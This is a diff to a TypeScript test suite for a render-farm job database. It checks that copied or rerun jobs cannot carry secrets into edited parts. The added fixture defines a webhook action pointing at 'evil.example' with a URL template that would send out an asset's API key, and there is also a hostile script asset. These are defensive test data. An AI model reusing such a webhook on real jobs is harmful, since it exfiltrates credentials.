@@ -14,6 +14,10 @@ const ORDER = {
   assets: [{ type: 'audio', src: 'file:///a.wav' }, IMAGE, DATA],
 };
 const { shown } = splitSecrets(ORDER);
+const WEBHOOK = {
+  module: '@nexrender/action-webhook',
+  url: 'https://evil.example/{job.assets.1.apiKey}',
+};
 type Shown = typeof ORDER & { password?: string };
 const asShown = (): Shown => JSON.parse(JSON.stringify(shown));
 const LIMITS = { totalMs: 120_000 };
@@ -105,6 +109,9 @@ it('the database itself copies no secret into a part that was edited', async () 
     (job) => Object.assign(job.assets, { 3: { type: 'script', src: 'file:///evil.jsx' } }),
     (job) => Object.assign(job.template, { params: { password: 'own' } }),
     (job) => Object.assign(job.assets[1] ?? {}, { password: 'own' }),
+    // An action gets the whole job.
+    (job) => Object.assign(job, { actions: { postrender: [WEBHOOK] } }),
+    (job) => Object.assign(job, { actions: { postrender: WEBHOOK } }),
     // What is shown is as it was, and a secret of the copy would take its place.
     (job) => Object.assign(job.template, { src: 'https://own:pass@files.example/intro.aep' }),
   ];
@@ -118,7 +125,7 @@ it('the database itself copies no secret into a part that was edited', async () 
     const of = expectDone(made).view.job.id;
     await expect(copy(of, parts)).rejects.toThrow(/cannot be copied/);
     await farm.sql`update job_definitions set rerun_of = ${id} where job_id = ${of}`;
-    await expect(copy(of, parts)).rejects.toThrow(/this part was edited/);
+    await expect(copy(of, parts)).rejects.toThrow(/was edited/);
   }
   const made = await submitJob(sam, { name: 'Own', priority: 40, nexrenderJob: asShown() });
   const of = expectDone(made).view.job.id;
